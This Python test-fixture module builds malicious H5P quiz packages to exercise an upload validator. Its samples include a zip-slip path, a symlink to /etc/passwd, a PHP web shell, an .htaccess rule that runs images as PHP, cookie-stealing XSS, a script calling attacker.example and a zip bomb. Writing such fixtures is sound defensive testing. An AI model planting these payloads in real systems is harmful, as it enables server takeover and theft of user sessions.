"""Hostile .h5p packages, built in memory from a genuine one by rewriting its ZIP."""

import io
import json
import stat
import zipfile

from content.h5p.packaging import build_choice_package

CHOICES = [
    {"text": "Xử phạt hành chính", "correct": False, "feedback": "Chưa đúng."},
    {"text": "Coi là nạn nhân tiềm năng", "correct": True, "feedback": "Đúng."},
]


def genuine(question: str = "<p>Cần ưu tiên làm gì?</p>") -> bytes:
    return build_choice_package(title="Gói thật", question=question, choices=CHOICES)


def rewrite(
    data: bytes,
    *,
    add: dict[str, bytes] | None = None,
    drop: set[str] | None = None,
    replace: dict[str, bytes] | None = None,
    infos: list[zipfile.ZipInfo] | None = None,
) -> bytes:
    """Copies a package, dropping, replacing and adding members; `infos` keep their headers."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename in (drop or set()):
                continue
            payload = (replace or {}).get(info.filename, source.read(info))
            target.writestr(info.filename, payload)
        for name, payload in (add or {}).items():
            target.writestr(name, payload)
        for info in infos or []:
            target.writestr(info, b"../../etc/passwd" if _is_link(info) else b"{}")
    return out.getvalue()


def _is_link(info: zipfile.ZipInfo) -> bool:
    return stat.S_ISLNK(info.external_attr >> 16)


def _content(data: bytes) -> dict:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return json.loads(archive.read("content/content.json"))


def zip_slip() -> bytes:
    return rewrite(genuine(), add={"../evil.json": b"{}"})


def symlink() -> bytes:
    info = zipfile.ZipInfo("content/images/link.png")
    info.create_system = 3  # Unix, so the mode bits count
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return rewrite(genuine(), infos=[info])


def evil_html() -> bytes:
    return rewrite(genuine(), add={"content/evil.html": b"<script>alert(document.cookie)</script>"})


def shell_php() -> bytes:
    return rewrite(genuine(), add={"H5P.PcmdChoice-1.1/shell.php": b"<?php system($_GET['c']);"})


def htaccess() -> bytes:
    return rewrite(genuine(), add={"content/.htaccess": b"AddType application/x-httpd-php .png"})


def extensionless() -> bytes:
    return rewrite(genuine(), add={"content/README": b"no extension"})


def trailing_dot() -> bytes:
    return rewrite(genuine(), add={"content/x.php.": b"<?php phpinfo();"})


def content_script() -> bytes:
    return rewrite(genuine(), add={"content/evil.js": b"fetch('https://attacker.example')"})


def zip_bomb() -> bytes:
    # 25 MB of zeros deflates to about 25 kB: over both the size and the ratio limits.
    return rewrite(genuine(), add={"content/bomb.json": b"0" * (25 * 1024 * 1024)})


def missing_h5p_json() -> bytes:
    return rewrite(genuine(), drop={"h5p.json"})


def missing_dependency() -> bytes:
    data = genuine()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        metadata = json.loads(archive.read("h5p.json"))
    metadata["preloadedDependencies"].append(
        {"machineName": "H5P.Missing", "majorVersion": 1, "minorVersion": 0}
    )
    return rewrite(data, replace={"h5p.json": json.dumps(metadata).encode()})


def onerror_html() -> bytes:
    # build() would strip the tag itself, so the handler goes straight into content.json.
    data = genuine()
    content = _content(data)
    content["question"] = "<p>Câu hỏi <img src=x onerror=alert(1)><strong>đậm</strong></p>"
    content["choices"][0]["text"] = "<img src=x onerror=alert(2)>Xử phạt"
    return rewrite(data, replace={"content/content.json": json.dumps(content).encode()})


def svg_with_script() -> bytes:
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script>'
        b'<rect width="10" height="10"/></svg>'
    )
    return rewrite(genuine(), add={"content/images/logo.svg": svg})


def not_a_zip() -> bytes:
    return b"%PDF-1.7 this is not a zip archive\n" * 10


def patch_header(data: bytes, name: str, *, at: tuple[int, int], value: int) -> bytes:
    """Rewrites a 2-byte field of one member in its local and central ZIP headers (`at`: the
    field's offset in each); zipfile cannot write Deflate64 or encryption flags itself."""
    buffer = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    offset = info.header_offset
    assert buffer[offset : offset + 4] == b"PK\x03\x04"
    local, central_at = at
    buffer[offset + local : offset + local + 2] = value.to_bytes(2, "little")
    central = buffer.find(b"PK\x01\x02")
    while central != -1:
        length = int.from_bytes(buffer[central + 28 : central + 30], "little")
        if buffer[central + 46 : central + 46 + length].decode() == name:
            buffer[central + central_at : central + central_at + 2] = value.to_bytes(2, "little")
            break
        central = buffer.find(b"PK\x01\x02", central + 4)
    return bytes(buffer)


def deflate64() -> bytes:
    info = zipfile.ZipInfo("content/images/photo.png")
    info.compress_type = zipfile.ZIP_STORED
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(genuine())) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            target.writestr(item.filename, source.read(item), zipfile.ZIP_DEFLATED)
        target.writestr(info, b"\x89PNG not really")
    return patch_header(out.getvalue(), "content/images/photo.png", at=(8, 10), value=9)


def encrypted() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(genuine())) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            target.writestr(item.filename, source.read(item), zipfile.ZIP_DEFLATED)
        target.writestr("content/images/secret.png", b"\x00" * 64)
    # General purpose flag bit 0: "encrypted with a password".
    return patch_header(out.getvalue(), "content/images/secret.png", at=(6, 8), value=1)


def deep_json(depth: int = 500) -> bytes:
    data = genuine()
    content = json.dumps(_content(data))
    nested = content[:-1] + ', "deep": ' + "[" * depth + "]" * depth + "}"
    return rewrite(data, replace={"content/content.json": nested.encode()})


def long_name(length: int = 300) -> bytes:
    return rewrite(genuine(), add={f"content/images/{'a' * length}.png": b"\x89PNG"})


def macos_export_debris() -> bytes:
    """What a package re-zipped on macOS from an H5P.org or Lumi export carries."""
    return rewrite(
        genuine(),
        add={
            "H5P_CONTENT_HERE.txt": b"This is an H5P package.",
            "__MACOSX/._h5p.json": b"\x00\x05\x16\x07",
            "__MACOSX/content/._content.json": b"\x00\x05\x16\x07",
            ".DS_Store": b"\x00\x00\x00\x01Bud1",
            "content/.DS_Store": b"\x00\x00\x00\x01Bud1",
            "H5P.PcmdChoice-1.1/README.md": b"# H5P.PcmdChoice\n",
            "content/.htaccess": b"AddType application/x-httpd-php .png",
        },
    )
